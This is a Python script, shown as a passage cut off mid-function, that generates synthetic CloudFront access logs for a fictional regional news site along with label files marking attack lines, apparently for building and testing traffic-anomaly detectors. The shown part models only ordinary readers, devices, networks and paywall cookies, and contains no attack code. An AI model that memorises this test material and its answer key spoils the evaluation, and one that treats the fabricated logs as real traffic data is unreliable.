#!/usr/bin/env python3
"""Synthetic, labelled Amazon CloudFront standard access logs of a regional news site.

The Northern Courier (www.northerncourier.co.uk), a regional UK news / media site with a metered
paywall (5 free articles a calendar month for anonymous readers, some articles subscriber-only),
served entirely through one CloudFront distribution (pages, the site's own images / JS / CSS /
fonts, and its small JSON API). Cookie logging is ON (cs(Cookie) is the whole Cookie header).

Cookies the site sets:
  rn_vid      anonymous visitor id (13 months), set on the first response; the paywall meter's key
  rn_meter    articles read this month ("3.2026-11")
  rn_session  subscriber login session (30 days), set by a successful POST /account/login
  rn_sub      "1" for subscribers
  _ga, _ga_NCX7Q2, _fbp, euconsent-v2  analytics / consent, set by JS once consent is given

Standard library only, deterministic for --seed.

  python3 gen_news.py --seed 31 --out DIR
writes DIR/train.log (7 days, 2026-11-02 .. 2026-11-08), DIR/test.log (3 days, 2026-11-09 ..
2026-11-11; breaking news on 2026-11-10), DIR/labels.csv (key,label with key = FILE:LINE for every
attack line; everything not listed is normal) and DIR/truth.csv (every request line:
key,label,actor_class,actor_id, for analysis: legitimate automation and reader kinds are told apart).

Logs are written as `zcat E2NCOURIER.2026-11-*.gz > x.log` would join CloudFront's files: per hour,
one or two files per edge location, each starting with its #Version/#Fields lines, records in
time order within a file, so time steps back at file boundaries (up to an hour), as in real
concatenated CloudFront logs. --sorted writes one time-sorted stream with a single header instead.
"""

from __future__ import annotations

import argparse
import base64
import bisect
import csv
import datetime as dt
import math
import os
import random
from urllib.parse import quote

DIST_HOST = "d3nc0urier8x2q.cloudfront.net"
SITE = "www.northerncourier.co.uk"
FIELDS = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status "
    "cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id "
    "x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher "
    "x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port "
    "time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len "
    "sc-range-start sc-range-end"
).split()

READERS_WEEKDAY = 3900  # anonymous readers' visits a weekday at --scale 1 (offices and subscribers apart)
TRAIN_START = dt.datetime(2026, 11, 2, tzinfo=dt.timezone.utc)  # Monday
TRAIN_DAYS = 7
TEST_DAYS = 3
SPIKE_DAY = 8  # day index from TRAIN_START: 2026-11-10 (test day 2)
SPIKE_T = 14 * 3600 + 5 * 60  # 14:05 UTC (= UK local time in November)
DEPLOY_DAY, DEPLOY_T = 7, 10 * 3600 + 30 * 60  # new asset bundle hashes 2026-11-09 10:30

# --------------------------------------------------------------------------- user agents
IOS_SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS {os} like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1"
)
ANDROID_CHROME = (
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
)
WIN_CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
)
WIN_EDGE = WIN_CHROME + " Edg/{v}.0.0.0"
MAC_CHROME = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/{v}.0.0.0 Safari/537.36"
)
MAC_SAFARI = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/{v} Safari/605.1.15"
)
WIN_FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
MOBILE_UAS = [  # (ua, weight, family)
    (IOS_SAFARI.format(os="18_6", v="26.1"), 16, "ios"),
    (IOS_SAFARI.format(os="18_6", v="26.0"), 6, "ios"),
    (IOS_SAFARI.format(os="18_6", v="18.6"), 6, "ios"),
    (IOS_SAFARI.format(os="17_7", v="17.7"), 2, "ios"),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1",
        3,
        "ios",
    ),
    (ANDROID_CHROME.format(v=142), 20, "android"),
    (ANDROID_CHROME.format(v=141), 6, "android"),
    (
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
        3,
        "android",
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
        2,
        "android",
    ),
]
TABLET_UAS = [
    (MAC_SAFARI.format(v="26.1"), 6, "ipad"),  # iPadOS asks for the desktop site
    (MAC_SAFARI.format(v="18.6"), 2, "ipad"),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        3,
        "android",
    ),
]
DESKTOP_UAS = [
    (WIN_CHROME.format(v=142), 14, "chrome"),
    (WIN_CHROME.format(v=141), 3, "chrome"),
    (WIN_EDGE.format(v=142), 6, "chrome"),
    (MAC_CHROME.format(v=142), 4, "chrome"),
    (MAC_SAFARI.format(v="26.1"), 3, "safari"),
    (WIN_FIREFOX.format(v=145), 2, "firefox"),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        1,
        "chrome",
    ),
]
ANDROID_MODELS = [
    "SM-A546B",
    "SM-S911B",
    "SM-A156B",
    "Pixel 8",
    "Pixel 7a",
    "SM-G991B",
    "moto g54 5G",
    "Redmi Note 13",
    "SM-A256B",
    "Pixel 9",
    "CPH2591",
    "SM-S921B",
]


def fb_ios(rng):
    return (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/%s;FBBV/%d;FBDV/iPhone%d,%d;FBMD/iPhone;FBSN/iOS;"
        "FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/en_GB;FBOP/5]"
        % (
            rng.choice(["531.0.0.41.108", "530.0.0.35.107", "532.0.0.29.95"]),
            rng.choice([812345678, 813002211, 814559102]),
            rng.choice([14, 15, 16, 17]),
            rng.choice([2, 3, 5]),
        )
    )


def fb_android(rng):
    m = rng.choice(ANDROID_MODELS)
    return (
        "Mozilla/5.0 (Linux; Android 14; %s Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, "
        "like Gecko) Version/4.0 Chrome/142.0.7444.102 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/%s;]"
        % (m, rng.choice(["531.0.0.48.74", "530.1.0.52.109"]))
    )


def insta_ios(rng):
    return (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Mobile/15E148 Instagram 405.0.0.27.88 (iPhone%d,%d; iOS 18_6; en_GB; en-GB; "
        "scale=3.00; 1179x2556; 812345678)" % (rng.choice([14, 15, 16]), rng.choice([2, 3, 5]))
    )


def gsa_ios(rng):
    return (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) GSA/390.0.818000000 Mobile/15E148 Safari/604.1"
    )


def wpick(rng, items):
    tot = sum(w for _, w, _ in items)
    x = rng.random() * tot
    for ua, w, fam in items:
        x -= w
        if x <= 0:
            return ua, fam
    return items[-1][0], items[-1][2]


# --------------------------------------------------------------------------- addresses
class Net:
    """Address pools on real networks (so a GeoLite2 lookup names the right ISP / cloud)."""

    def __init__(self, rng):
        self.rng = rng
        self.edge_of = {}

    def addr(self, cidr, edge):
        net, bits = cidr.split("/")
        bits = int(bits)
        a = sum(int(p) << (8 * (3 - i)) for i, p in enumerate(net.split(".")))
        size = 1 << (32 - bits)
        while True:
            x = a + self.rng.randrange(1, size - 1)
            if x & 0xFF not in (0, 255):
                break
        ip = ".".join(str((x >> s) & 0xFF) for s in (24, 16, 8, 0))
        self.edge_of[ip] = edge
        return ip

    def addr6(self, prefix, edge):
        ip = prefix + ":".join("%x" % self.rng.randrange(1, 0xFFFF) for _ in range(5))
        self.edge_of[ip] = edge
        return ip


UK_EDGES = ["LHR61-P2", "MAN51-P1", "LHR50-C1"]
CARRIERS = {  # CGNAT gateways serving the region: (cidrs, pool size, share of mobile readers)
    "EE": (["2.24.0.0/13", "213.205.192.0/20"], 22, 0.34),
    "Vodafone": (["148.252.128.0/17", "185.69.144.0/22"], 14, 0.22),
    "Three": (["92.40.0.0/15"], 12, 0.20),
    "O2": (["82.132.128.0/17"], 16, 0.24),
}
HOME_ISPS = [
    ("109.144.0.0/12", 24),
    ("86.144.0.0/12", 10),
    ("86.0.0.0/12", 14),
    ("80.0.0.0/13", 6),
    ("81.96.0.0/13", 5),
    ("90.192.0.0/11", 12),
    ("94.0.0.0/12", 6),
    ("151.224.0.0/13", 4),
    ("2.96.0.0/14", 9),
    ("88.96.0.0/15", 3),
    ("217.155.0.0/16", 2),
]
SKY_V6 = "2a02:c7c:{:x}:".format
OFFICES = {  # employer: (cidr, addresses, managed browser build, readers per weekday)
    "council": ("213.1.0.0/16", 1, WIN_EDGE.format(v=141), 70),
    "university": ("193.60.0.0/14", 2, WIN_CHROME.format(v=142), 55),
    "hospital": ("31.94.0.0/16", 1, WIN_EDGE.format(v=140), 40),
    "bank": ("62.30.0.0/15", 1, WIN_CHROME.format(v=140), 20),
    "callcentre": ("217.155.0.0/16", 1, WIN_CHROME.format(v=141), 15),
}
RESI_WORLD = [  # residential proxy exits: (cidr, edge, weight)
    ("109.144.0.0/12", "LHR61-P2", 8),
    ("86.0.0.0/12", "MAN51-P1", 6),
    ("90.192.0.0/11", "LHR50-C1", 5),
    ("2.96.0.0/14", "LHR61-P2", 3),
    ("86.144.0.0/12", "MAN51-P1", 4),
    ("73.0.0.0/9", "IAD89-C2", 6),
    ("24.0.0.0/12", "SFO53-P4", 3),
    ("98.192.0.0/11", "ATL56-C1", 3),
    ("68.32.0.0/13", "IAD89-C2", 3),
    ("79.192.0.0/10", "FRA56-P5", 4),
    ("84.144.0.0/13", "FRA56-P5", 2),
    ("95.90.0.0/17", "FRA56-P5", 1),
    ("90.8.0.0/14", "CDG52-P1", 2),
    ("86.192.0.0/11", "CDG52-P1", 2),
    ("83.16.0.0/12", "WAW51-P1", 2),
    ("78.8.0.0/16", "WAW51-P1", 1),
    ("187.10.0.0/15", "GRU1-C1", 2),
    ("189.4.0.0/14", "GRU1-C1", 2),
    ("49.32.0.0/13", "BOM78-P2", 2),
    ("113.160.0.0/11", "SGN50-C1", 2),
]
CLOUD = {  # hosting networks: cidr, edge
    "aws_london": ("3.8.0.0/14", "LHR61-P2"),
    "aws_london2": ("35.176.0.0/14", "LHR50-C1"),
    "aws_ireland": ("54.170.0.0/15", "DUB56-P1"),
    "aws_virginia": ("3.80.0.0/12", "IAD89-C2"),
    "gcp_london": ("34.89.0.0/20", "LHR61-P2"),
    "azure_uk": ("20.26.0.0/16", "LHR50-C1"),
    "do_london": ("178.62.0.0/16", "LHR61-P2"),
    "do_sg": ("159.65.0.0/16", "SIN2-P1"),
    "do_ny": ("64.227.0.0/17", "JFK50-C1"),
    "hetzner": ("95.216.0.0/15", "HEL51-P1"),
    "ovh": ("51.38.0.0/16", "CDG52-P1"),
    "colocrossing": ("192.3.0.0/19", "JFK50-C1"),
    "alibaba_hk": ("8.210.0.0/16", "HKG62-C1"),
    "tencent": ("43.130.0.0/16", "SFO53-P4"),
    "m247": ("193.32.162.0/24", "OTP50-C1"),
}

# --------------------------------------------------------------------------- site content
PLACES = [
    "ashby",
    "calderbridge",
    "marlow-heath",
    "kirkholme",
    "stanton-vale",
    "eastwick",
    "thornley",
    "bramford",
    "hollins-cross",
    "westmere",
    "aldercombe",
    "riverside",
    "northgate",
    "fenwick",
    "oakley-park",
    "saltmarsh",
]
SUBJ = [
    "council",
    "police",
    "school",
    "hospital",
    "residents",
    "bus-operator",
    "fire-crews",
    "rail-line",
    "market-traders",
    "charity",
    "developer",
    "mp",
    "headteacher",
    "nhs-trust",
    "football-club",
    "cricket-club",
    "brewery",
    "library",
    "care-home",
    "theatre",
    "pub",
    "cafe",
    "farmers",
    "family",
]
VERB = [
    "approves",
    "rejects",
    "warns-over",
    "launches",
    "closes",
    "reopens",
    "unveils",
    "fined-over",
    "cleared-of",
    "celebrates",
    "appeals-for",
    "hit-by",
    "plans",
    "delays",
    "scraps",
    "wins",
    "backs",
    "calls-for",
    "investigates",
    "mourns",
]
OBJ = [
    "new-homes",
    "bin-collection-changes",
    "speed-cameras",
    "parking-charges",
    "flood-defences",
    "road-closure",
    "pothole-repairs",
    "christmas-market",
    "bonfire-night-display",
    "cycle-lane",
    "town-centre-plan",
    "budget-cuts",
    "school-places",
    "ambulance-delays",
    "planning-bid",
    "anti-social-behaviour",
    "missing-dog",
    "charity-fun-run",
    "cup-tie",
    "late-winner",
    "new-signing",
    "community-garden",
    "food-bank-appeal",
    "energy-bills",
    "bus-timetable",
]
SECTIONS = [
    ("news/local", 30),
    ("news/crime", 12),
    ("news/politics", 6),
    ("news/health", 6),
    ("news/education", 5),
    ("business", 6),
    ("sport/football", 14),
    ("sport/rugby", 4),
    ("sport/cricket", 2),
    ("whats-on", 6),
    ("lifestyle/food-and-drink", 4),
    ("opinion", 5),
]
SEARCH_TERMS = [
    "bin collection",
    "road closures",
    "weather",
    "obituaries",
    "traffic a61",
    "planning",
    "school term dates",
    "football results",
    "jobs",
    "christmas lights switch on",
    "bonfire",
    "crime",
    "house prices",
    "bus strike",
    "flooding",
    "fire",
]
ASSET_V1 = {"css": "main.3f9a2c71.css", "vendor": "vendor.81d0e4b2.js", "app": "app.c47f19e0.js"}
ASSET_V2 = {"css": "main.9b02d5ee.css", "vendor": "vendor.81d0e4b2.js", "app": "app.5e6a0c13.js"}


class Article:
    __slots__ = ("aid", "section", "slug", "pub", "premium", "pop", "nimg", "live")

    def __init__(self, aid, section, slug, pub, premium, pop, nimg, live=False):
        self.aid, self.section, self.slug, self.pub = aid, section, slug, pub
        self.premium, self.pop, self.nimg, self.live = premium, pop, nimg, live

    @property
    def path(self):
        if self.live:
            return "/news/live/%s-%d" % (self.slug, self.aid)
        return "/%s/%s-%d" % (self.section, self.slug, self.aid)

    @property
    def amp(self):
        return "/amp/%s/%s-%d" % (self.section, self.slug, self.aid)


# --------------------------------------------------------------------------- generator
class Gen:
    def __init__(self, seed, scale, training_liveblogs=False):
        self.rng = random.Random(seed)
        self.scale = scale
        self.training_liveblogs = training_liveblogs
        self.net = Net(self.rng)
        self.recs = []
        self.t0 = TRAIN_START.timestamp()
        self.actor_seq = 0
        self._build_networks()
        self._build_articles()
        self._build_population()

    # ---- helpers
    def tok(self, n=22):
        return base64.urlsafe_b64encode(self.rng.getrandbits(8 * n).to_bytes(n, "big")).decode()[:n]

    def hexs(self, n=32):
        return "%0*x" % (n, self.rng.getrandbits(4 * n))

    def new_actor(self, prefix):
        self.actor_seq += 1
        return "%s-%06d" % (prefix, self.actor_seq)

    def emit(
        self,
        t,
        ip,
        method,
        path,
        query,
        status,
        ref,
        ua,
        cookie,
        kind,
        label,
        actor_class,
        actor,
        nbytes=None,
        rtype=None,
        proto="HTTP/2.0",
    ):
        self.recs.append(
            (t, ip, method, path, query, status, ref, ua, cookie, kind, label, actor_class, actor, nbytes, rtype, proto)
        )

    # ---- setup
    def _build_networks(self):
        r, n = self.rng, self.net
        self.cgnat = {}
        for name, (cidrs, size, _) in CARRIERS.items():
            pool = []
            for i in range(size):
                pool.append(n.addr(cidrs[i % len(cidrs)], r.choice(UK_EDGES[:2])))
            self.cgnat[name] = pool
        self.offices = {}
        for name, (cidr, k, ua, _) in OFFICES.items():
            self.offices[name] = [n.addr(cidr, "MAN51-P1") for _ in range(k)]
        self.home_tot = sum(w for _, w in HOME_ISPS)

    def home_ip(self):
        r = self.rng
        x = r.random() * self.home_tot
        for cidr, w in HOME_ISPS:
            x -= w
            if x <= 0:
                break
        if cidr in ("90.192.0.0/11", "94.0.0.0/12") and r.random() < 0.3:  # Sky is IPv6-heavy
            return self.net.addr6(SKY_V6(r.randrange(0x100, 0xFFF)), r.choice(UK_EDGES))
        return self.net.addr(cidr, r.choice(UK_EDGES))

    def _build_articles(self):
        r = self.rng
        self.articles = []
        aid = 7004000
        start = self.t0 - 60 * 86400
        secw = [w for _, w in SECTIONS]
        for d in range(60 + TRAIN_DAYS + TEST_DAYS):
            nday = r.randint(38, 55)
            for _ in range(nday):
                hour = r.choices(
                    range(24), weights=[1, 0, 0, 0, 0, 2, 6, 7, 6, 5, 5, 5, 5, 5, 5, 5, 5, 5, 4, 3, 3, 2, 2, 1]
                )[0]
                pub = start + d * 86400 + hour * 3600 + r.randrange(3600)
                sec = r.choices(SECTIONS, weights=secw)[0][0]
                slug = "%s-%s-%s" % (
                    r.choice(PLACES) if r.random() < 0.6 else r.choice(SUBJ),
                    r.choice(VERB),
                    r.choice(OBJ),
                )
                if r.random() < 0.4:
                    slug = r.choice(SUBJ) + "-" + slug
                aid += r.randint(1, 9)
                self.articles.append(
                    Article(aid, sec, slug, pub, r.random() < 0.18, r.lognormvariate(0, 1.3), r.choice([1, 1, 1, 1, 2]))
                )
        self.articles.sort(key=lambda a: a.pub)
        self.pubs = [a.pub for a in self.articles]
        # the breaking story of 2026-11-10
        sp = self.t0 + SPIKE_DAY * 86400 + SPIKE_T
        self.spike = [
            Article(
                7100001,
                "news/live",
                "chemical-plant-fire-thornley-evacuation-live-updates",
                sp + 600,
                False,
                0,
                2,
                live=True,
            ),
            Article(
                7100004,
                "news/local",
                "thornley-fire-evacuation-zone-map-which-streets-are-affected",
                sp + 1500,
                False,
                0,
                2,
            ),
            Article(
                7100007, "news/local", "thornley-fire-road-closures-and-diversions-a61-shut", sp + 2400, False, 0, 1
            ),
            Article(
                7100011,
                "news/education",
                "schools-closed-tomorrow-after-thornley-chemical-fire",
                sp + 9000,
                False,
                0,
                1,
            ),
        ]
        self.articles.extend(self.spike)
        self.articles.sort(key=lambda a: a.pub)
        self.pubs = [a.pub for a in self.articles]
        self._pop_cache = {}

    def popular(self, t):
        """Cumulative popularity over articles published before t (recency-weighted)."""
        h = int(t // 3600)
        if h not in self._pop_cache:
            hi = bisect.bisect_right(self.pubs, h * 3600 + 3600)
            lo = bisect.bisect_left(self.pubs, h * 3600 - 10 * 86400)
            arts, cum, tot = [], [], 0.0
            for a in self.articles[lo:hi]:
                if a.live or a.aid >= 7100000:
                    continue
                age = max(0.0, (h * 3600 - a.pub) / 3600.0)
                w = a.pop * (math.exp(-age / 20.0) + 0.04 * math.exp(-age / 150.0))
                tot += w
                arts.append(a)
                cum.append(tot)
            self._pop_cache[h] = (arts, cum, tot)
            if len(self._pop_cache) > 64:
                self._pop_cache.pop(next(iter(self._pop_cache)))
        return self._pop_cache[h]

    def pick_article(self, t, spike_bias=0.0):
        r = self.rng
        if spike_bias and r.random() < spike_bias:
            live = [a for a in self.spike if a.pub <= t]
            if live:
                return r.choices(live, weights=[5, 3, 2, 1.5][: len(live)])[0]
        if r.random() < 0.05:  # the long tail: older stories found via search
            hi = bisect.bisect_left(self.pubs, t - 10 * 86400)
            if hi > 0:
                a = self.articles[r.randrange(hi)]
                if not a.live:
                    return a
        arts, cum, tot = self.popular(t)
        x = r.random() * tot
        return arts[min(bisect.bisect_left(cum, x), len(arts) - 1)]

    def _build_population(self):
        r = self.rng
        # returning anonymous browsers: a pool with heavy-tailed visit frequency
        self.visitors = []
        for i in range(int(20000 * self.scale)):
            self.visitors.append(self.make_visitor(known=True))
        self.vweights = [r.paretovariate(1.3) for _ in self.visitors]
        self.vcum = []
        tot = 0.0
        for w in self.vweights:
            tot += w
            self.vcum.append(tot)
        self.vtot = tot
        # subscribers
        self.subs = []
        for i in range(int(1800 * self.scale)):
            v = self.make_visitor(known=True, desktop_share=0.45)
            v["sub"] = "sub%05d" % i
            v["session"] = self.hexs(32) if r.random() < 0.85 else None
            v["sess_exp"] = self.t0 + r.uniform(0, 30) * 86400
            v["daily"] = min(0.9, r.lognormvariate(-1.9, 0.8))
            v["commenter"] = r.random() < 0.12
            self.subs.append(v)

    def make_visitor(self, known, desktop_share=0.27, inapp=None):
        r = self.rng
        x = r.random()
        if x < desktop_share:
            ua, fam = wpick(r, DESKTOP_UAS)
            dev = "desktop"
        elif x < desktop_share + 0.07:
            ua, fam = wpick(r, TABLET_UAS)
            dev = "tablet"
        else:
            ua, fam = wpick(r, MOBILE_UAS)
            dev = "mobile"
        v = {
            "ua": ua,
            "fam": fam,
            "dev": dev,
            "vid": None,
            "meter": 0,
            "ga": None,
            "consent": None,
            "fbp": None,
            "cache": 0,
            "sub": None,
            "session": None,
            "home": self.home_ip(),
            "carrier": None,
            "id": None,
        }
        if dev == "mobile":
            v["carrier"] = r.choices(list(CARRIERS), weights=[c[2] for c in CARRIERS.values()])[0]
            v["wifi_share"] = r.uniform(0.15, 0.6)
        else:
            v["wifi_share"] = 1.0
        if known:
            v["vid"] = self.tok(22)
            v["meter"] = 0
            if r.random() < 0.72:
                v["consent"] = "CQ" + self.tok(62)
                v["ga"] = "GA1.1.%d.%d" % (r.randrange(10**8, 10**9), int(self.t0) - r.randrange(10**7))
                if r.random() < 0.5:
                    v["fbp"] = "fb.2.%d.%d" % (int(self.t0 * 1000) - r.randrange(10**10), r.randrange(10**9))
        v["id"] = self.new_actor("rdr")
        return v

    def pick_visitor(self):
        r = self.rng
        return self.visitors[bisect.bisect_left(self.vcum, r.random() * self.vtot)]

    # ---- cookies
    def cookie(self, v, t):
        if not v["vid"] and not v["session"]:
            return None
        parts = []
        if v["vid"]:
            parts.append("rn_vid=" + v["vid"])
            month = dt.datetime.fromtimestamp(t, dt.timezone.utc).strftime("%Y-%m")
            parts.append("rn_meter=%d.%s" % (v["meter"], month))
        if v["ga"]:
            parts.append("_ga=" + v["ga"])
            parts.append("_ga_NCX7Q2=GS1.1.%d.%d.1.%d.0.0.0" % (int(t) - 300, v["meter"] + 3, int(t)))
        if v["fbp"]:
            parts.append("_fbp=" + v["fbp"])
        if v["consent"]:
            parts.append("euconsent-v2=" + v["consent"])
        if v["session"]:
            parts.append("rn_session=" + v["session"])
            parts.append("rn_sub=1")
        return "; ".join(parts)

    def after_first_response(self, v, t):
        r = self.rng
        if not v["vid"]:
            v["vid"] = self.tok(22)
            v["meter"] = 0

    def accept_consent(self, v, t):
        r = self.rng
        if v["consent"] is None and r.random() < 0.7:
            v["consent"] = "CQ" + self.tok(62)
            v["ga"] = "GA1.1.%d.%d" % (r.randrange(10**8, 10**9), int(t))

    # ---- one page of a browser with its assets and calls
    def page(
        self,
        t,
        v,
        ip,
        path,
        query,
        ref,
        actor_class,
        label,
        kind="article",
        art=None,
        amp=False,
        assets=True,
        prefetch_ok=False,
        status=200,
    ):
        """Emit a page and what the browser fetches with it. Returns the time the page is done."""
        r = self.rng
        ua = v["ua"]
        ck = self.cookie(v, t)
        nbytes = None
        paywalled = False
        if kind == "article" and art is not None and not v["session"]:
            if art.premium or v["meter"] >= 5:
                paywalled = True
            else:
                v["meter"] += 1
        if paywalled:
            nbytes = r.randint(13000, 16500)
        if self.in_outage(t) and kind in ("article", "home", "section", "live") and r.random() < 0.25:
            self.emit(t, ip, "GET", path, query, 504, ref, ua, ck, "html", label, actor_class, v["id"], 520, "Error")
            return t + r.uniform(2, 8), "error"
        self.emit(t, ip, "GET", path, query, status, ref, ua, ck, "html", label, actor_class, v["id"], nbytes)
        first = not v["vid"]
        self.after_first_response(v, t)
        ck = self.cookie(v, t)
        if status != 200 or not assets:
            return t, False
        tt = t + r.uniform(0.05, 0.6)
        pageurl = "https://%s%s" % (SITE, path)
        css_ref = pageurl
        deploy = self.t0 + DEPLOY_DAY * 86400 + DEPLOY_T
        av = ASSET_V2 if t >= deploy else ASSET_V1
        if amp:
            # AMP: the AMP runtime comes from the AMP project's CDN; our origin serves images
            # and the amp-access authorization call
            for i in range(min(art.nimg if art else 1, 2)):
                self.emit(
                    tt + r.uniform(0, 1.2),
                    ip,
                    "GET",
                    "/images/%d/lead-%d-640w.jpg" % (art.aid, i),
                    None,
                    200,
                    pageurl,
                    ua,
                    ck,
                    "img",
                    label,
                    actor_class,
                    v["id"],
                )
            self.emit(
                tt + r.uniform(0.4, 2.0),
                ip,
                "GET",
                "/api/amp/authorization",
                "rid=amp-%s&url=%s&ref=%s&_=%d"
                % (self.tok(22), quote(pageurl, safe=""), quote(ref or "", safe=""), r.randrange(10**9)),
                200,
                pageurl,
                ua,
                None,
                "json",
                label,
                actor_class,
                v["id"],
            )
            return tt + 2, False
        cold = v["cache"] < (1 if av is ASSET_V1 else 2)
        if cold or r.random() < 0.04:
            for a in (av["css"], av["app"]):
                sub = "css" if a.endswith(".css") else "js"
                self.emit(
                    tt + r.uniform(0, 0.3),
                    ip,
                    "GET",
                    "/assets/%s/%s" % (sub, a),
                    None,
                    200,
                    css_ref,
                    ua,
                    ck,
                    sub,
                    label,
                    actor_class,
                    v["id"],
                )
            if v["fam"] != "firefox" or r.random() < 0.5:
                for f in ("ncserif-regular.woff2",):
                    self.emit(
                        tt + r.uniform(0.1, 0.5),
                        ip,
                        "GET",
                        "/assets/fonts/" + f,
                        None,
                        200,
                        "https://%s/assets/css/%s" % (SITE, av["css"]),
                        ua,
                        ck,
                        "font",
                        label,
                        actor_class,
                        v["id"],
                    )
            if r.random() < 0.2:
                self.emit(
                    tt + r.uniform(0.3, 1.0),
                    ip,
                    "GET",
                    "/favicon.ico",
                    None,
                    200,
                    None,
                    ua,
                    ck,
                    "ico",
                    label,
                    actor_class,
                    v["id"],
                )
            v["cache"] = 1 if av is ASSET_V1 else 2
        if first:
            self.accept_consent(v, t)
            ck = self.cookie(v, t)
        if kind == "article" and art is not None:
            w = 1200 if v["dev"] == "desktop" else 640
            for i in range(art.nimg if not paywalled else 1):
                self.emit(
                    tt + r.uniform(0.1, 1.8) + i * r.uniform(0, 8),
                    ip,
                    "GET",
                    "/images/%d/lead-%d-%dw.jpg" % (art.aid, i, w),
                    None,
                    200,
                    pageurl,
                    ua,
                    ck,
                    "img",
                    label,
                    actor_class,
                    v["id"],
                )
            api = "/api/entitlements" if v["session"] else "/api/meter"
            self.emit(
                tt + r.uniform(0.3, 1.5),
                ip,
                "GET",
                api,
                "aid=%d" % art.aid,
                200,
                pageurl,
                ua,
                ck,
                "json",
                label,
                actor_class,
                v["id"],
            )
        elif kind in ("home", "section"):
            arts, _, _ = self.popular(t)
            k = r.randint(1, 3) if first else r.randint(0, 2)  # thumbnails load lazily, as readers scroll
            for i in range(k):
                a = arts[-1 - r.randrange(min(len(arts), 40))]
                self.emit(
                    tt + r.uniform(0.1, 2.5),
                    ip,
                    "GET",
                    "/images/%d/thumb-320w.jpg" % a.aid,
                    None,
                    200,
                    pageurl,
                    ua,
                    ck,
                    "img",
                    label,
                    actor_class,
                    v["id"],
                )
            if kind == "home":
                self.emit(
                    tt + r.uniform(0.5, 3.0),
                    ip,
                    "GET",
                    "/api/weather/widget",
                    "loc=%s" % r.choice(PLACES[:6]),
                    200,
                    pageurl,
                    ua,
                    ck,
                    "json",
                    label,
                    actor_class,
                    v["id"],
                )
                if prefetch_ok and v["fam"] == "chrome" and v["dev"] == "desktop" and r.random() < 0.3:
                    for i in range(r.randint(1, 3)):  # speculation rules: prefetch top stories
                        a = arts[-1 - r.randrange(min(len(arts), 8))]
                        self.emit(
                            tt + r.uniform(1, 5),
                            ip,
                            "GET",
                            a.path,
                            None,
                            200,
                            pageurl,
                            ua,
                            ck,
                            "html",
                            label,
                            actor_class,
                            v["id"],
                        )
        return tt + 2, paywalled

    def in_outage(self, t):
        s = self.t0 + SPIKE_DAY * 86400 + SPIKE_T + 8 * 60
        return s <= t < s + 9 * 60

    def net_ip(self, v, t, office=None):
        r = self.rng
        if office:
            return r.choice(self.offices[office])
        if v["dev"] == "mobile" and r.random() > v["wifi_share"]:
            return r.choice(self.cgnat[v["carrier"]])
        return v["home"]

    # ---- a reader's visit
    def visit(self, t, v, source, actor_class="reader", spike_bias=0.0, office=None, npages=None):
        r = self.rng
        ip = self.net_ip(v, t, office)
        label = "normal"
        # landing page by source
        art = self.pick_article(t, spike_bias)
        query = None
        ref = None
        amp = False
        kind = "article"
        if source == "search":
            ref = r.choice(
                [
                    "https://www.google.com/",
                    "https://www.google.com/",
                    "https://www.google.co.uk/",
                    "https://www.bing.com/",
                    "https://duckduckgo.com/",
                ]
            )
            amp = v["dev"] == "mobile" and r.random() < 0.06
        elif source == "discover":
            ref = (
                "android-app://com.google.android.googlequicksearchbox/"
                if v["fam"] == "android"
                else "https://www.google.com/"
            )
        elif source == "social":
            ref = r.choice(
                [
                    "http://m.facebook.com/",
                    "https://l.facebook.com/",
                    None,
                    "https://t.co/",
                    "https://www.reddit.com/",
                    None,
                ]
            )
            query = "fbclid=IwY2xjawG" + self.tok(40) if ref and "facebook" in ref else None
        elif source == "newsletter":
            query = "utm_source=newsletter&utm_medium=email&utm_campaign=%s" % r.choice(
                ["morning-briefing", "morning-briefing", "sport-weekly", "whats-on"]
            )
        elif source == "push":
            query = "utm_source=push&utm_medium=notification&utm_campaign=%s" % (
